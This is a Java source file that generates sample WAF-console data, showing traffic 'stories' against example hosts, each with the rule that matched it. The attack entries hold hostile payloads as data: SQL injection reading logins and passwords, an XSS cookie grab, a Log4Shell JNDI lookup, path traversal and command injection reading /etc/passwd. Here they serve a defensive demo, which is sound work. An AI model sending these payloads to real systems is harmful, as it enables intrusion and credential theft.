package io.rempart.console.sample;

import io.rempart.events.model.Event.Disposition;
import io.rempart.events.model.SourceClass;
import java.util.List;

/**
 * What happens to a small server in two days, as stories: who does what, how often, in what rhythm. All addresses, names and
 * networks are those that standards reserve for examples (RFC 5737, 3849, 2606, 5398).
 */
final class SampleStories {
    private static final String FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
    private static final String CHROME =
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";

    private SampleStories() {}

    /** Where a source is. */
    record Home(String address, String country, long asn, String organisation) {}

    /**
     * One request of a story.
     *
     * @param rule id of the rule that matches; empty for none
     * @param argument that matched, such as {@code ARGS:id}
     * @param matched what matched in it
     * @param body form fields of a POST; empty for none
     */
    record Step(String method, String path, String rule, String argument, String matched, String body, int status) {
        static Step get(String path, int status) {
            return new Step("GET", path, "", "", "", "", status);
        }

        Step hit(String ruleId, String where, String what) {
            return new Step(method, path, ruleId, where, what, body, status);
        }
    }

    /**
     * A story.
     *
     * @param sources who takes part; each does all of it
     * @param start hours before now at which it begins
     * @param rounds how often the steps are gone through
     * @param pauseSeconds between two requests
     */
    record Story(
            SourceClass sourceClass,
            List<Home> sources,
            String host,
            String userAgent,
            double start,
            int rounds,
            int pauseSeconds,
            Disposition disposition,
            String evidence,
            List<Step> steps) {}

    static List<Story> all() {
        return List.of(
                new Story(
                        SourceClass.SCANNER,
                        List.of(new Home("203.0.113.66", "NL", 64_500, "Example Hosting BV")),
                        "www.example.org",
                        "Mozilla/5.0 zgrab/0.x",
                        6.4,
                        4,
                        3,
                        Disposition.BLOCKED,
                        "8 paths in 10 min: path /.env",
                        List.of(
                                Step.get("/.env", 403).hit("930130", "REQUEST_FILENAME", "/.env"),
                                Step.get("/.git/config", 403).hit("930130", "REQUEST_FILENAME", "/.git/"),
                                Step.get("/phpmyadmin/index.php", 404)
                                        .hit("913100", "REQUEST_HEADERS:User-Agent", "zgrab"),
                                Step.get("/pma/index.php", 404).hit("913100", "REQUEST_HEADERS:User-Agent", "zgrab"),
                                Step.get("/wp-config.php.bak", 403).hit("930130", "REQUEST_FILENAME", "wp-config."),
                                Step.get("/backup.sql", 404).hit("920440", "REQUEST_BASENAME", ".sql"),
                                Step.get("/actuator/env", 404).hit("913100", "REQUEST_HEADERS:User-Agent", "zgrab"),
                                Step.get("/cgi-bin/luci/;stok=/locale", 404)
                                        .hit("913100", "REQUEST_HEADERS:User-Agent", "zgrab"))),
                new Story(
                        SourceClass.ATTACK,
                        List.of(new Home("198.51.100.23", "US", 64_501, "Example Cloud Inc.")),
                        "shop.example.org",
                        "sqlmap/1.8.2#stable (https://sqlmap.org)",
                        4.1,
                        12,
                        2,
                        Disposition.BLOCKED,
                        "user agent sqlmap",
                        List.of(
                                Step.get(
                                                "/product?id=7%27%20UNION%20SELECT%20login%2Cpassword%20FROM%20users--%20-",
                                                403)
                                        .hit("942100", "ARGS:id", "7' UNION SELECT login,password FROM users-- -"),
                                Step.get("/product?id=7%20AND%20SLEEP(5)", 403).hit("942160", "ARGS:id", "SLEEP(5)"),
                                Step.get("/search?q=%27%20OR%20%271%27%3D%271", 403)
                                        .hit("942130", "ARGS:q", "'1'='1"),
                                new Step(
                                        "POST",
                                        "/login",
                                        "942100",
                                        "ARGS:user",
                                        "admin' OR 1=1#",
                                        "user=admin%27%20OR%201%3D1%23&password=%5Bmasked%3A4f2a91%5D",
                                        403))),
                new Story(
                        SourceClass.ATTACK,
                        List.of(new Home("2001:db8:5:77::1a", "DE", 64_502, "Example Networks GmbH")),
                        "www.example.org",
                        CHROME,
                        9.7,
                        2,
                        19,
                        Disposition.BLOCKED,
                        "rule 944150",
                        List.of(
                                Step.get("/blog?q=%253Cscript%253Ealert(document.cookie)%253C%252Fscript%253E", 403)
                                        .hit("941100", "ARGS:q", "<script>"),
                                Step.get("/?x=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.9%2Fa%7D", 403)
                                        .hit("944150", "ARGS:x", "${jndi:ldap://192.0.2.9/a}"),
                                Step.get("/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", 403)
                                        .hit("930120", "ARGS:file", "etc/passwd"),
                                Step.get("/ping?host=127.0.0.1%3B%20cat%20%2Fetc%2Fpasswd", 403)
                                        .hit("932160", "ARGS:host", "; cat /etc/passwd"))),
                new Story(
                        SourceClass.BRUTE_FORCE,
                        List.of(
                                new Home("192.0.2.14", "BR", 64_503, "Example Telecom"),
                                new Home("192.0.2.77", "BR", 64_503, "Example Telecom"),
                                new Home("192.0.2.201", "BR", 64_503, "Example Telecom")),
                        "blog.example.org",
                        "python-requests/2.31.0",
                        14.2,
                        45,
                        7,
                        Disposition.DETECTED,
                        "path /wp-login.php",
                        List.of(new Step(
                                "POST",
                                "/wp-login.php",
                                "920300",
                                "REQUEST_HEADERS",
                                "",
                                "log=admin&pwd=%5Bmasked%3Aa81c07%5D",
                                200))),
                new Story(
                        SourceClass.BAD_BOT,
                        List.of(
                                new Home("198.51.100.140", "SG", 64_504, "Example Pte"),
                                new Home("198.51.100.141", "SG", 64_504, "Example Pte")),
                        "shop.example.org",
                        "Bytespider",
                        40,
                        160,
                        240,
                        Disposition.DETECTED,
                        "user agent Bytespider",
                        List.of(Step.get("/catalogue?page=1", 200).hit("920320", "REQUEST_HEADERS", ""))),
                new Story(
                        SourceClass.GOOD_BOT,
                        List.of(new Home("203.0.113.5", "US", 64_505, "Example Search")),
                        "www.example.org",
                        "Mozilla/5.0 (compatible; examplebot/2.1; +https://www.example.com/bot)",
                        30,
                        30,
                        1_900,
                        Disposition.LOGGED,
                        "examplebot, confirmed by DNS",
                        List.of(Step.get("/robots.txt", 404), Step.get("/sitemap.xml", 404))),
                new Story(
                        SourceClass.FALSE_POSITIVE,
                        List.of(
                                new Home("203.0.113.180", "FR", 64_506, "Exemple Télécom"),
                                new Home("203.0.113.181", "FR", 64_506, "Exemple Télécom")),
                        "www.example.org",
                        FIREFOX,
                        11,
                        5,
                        1_200,
                        Disposition.BLOCKED,
                        "rule 942360",
                        List.of(new Step(
                                "POST",
                                "/contact",
                                "942360",
                                "ARGS:message",
                                "select a date from",
                                "name=Zo%C3%A9&message=Please+select+a+date+from+the+list%2C+it%27s+urgent",
                                403))),
                new Story(
                        SourceClass.SCANNER,
                        List.of(
                                new Home("203.0.113.90", "CN", 64_507, "Example Net"),
                                new Home("203.0.113.91", "CN", 64_507, "Example Net"),
                                new Home("203.0.113.94", "CN", 64_507, "Example Net")),
                        "blog.example.org",
                        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
                        27,
                        6,
                        31,
                        Disposition.BLOCKED,
                        "user agent Nmap Scripting Engine",
                        List.of(
                                Step.get("/wp-login.php", 403).hit("913100", "REQUEST_HEADERS:User-Agent", "nmap"),
                                Step.get("/xmlrpc.php", 403).hit("913100", "REQUEST_HEADERS:User-Agent", "nmap"),
                                Step.get("/administrator/index.php", 403)
                                        .hit("913100", "REQUEST_HEADERS:User-Agent", "nmap"))),
                new Story(
                        SourceClass.UNCLASSIFIED,
                        List.of(
                                new Home("192.0.2.130", "GB", 64_508, "Example Broadband"),
                                new Home("198.51.100.9", "IN", 64_509, "Example ISP")),
                        "www.example.org",
                        "curl/8.5.0",
                        44,
                        14,
                        5_400,
                        Disposition.DETECTED,
                        "",
                        List.of(Step.get("/", 200).hit("920350", "REQUEST_HEADERS:Host", "192.0.2.10"))));
    }
}
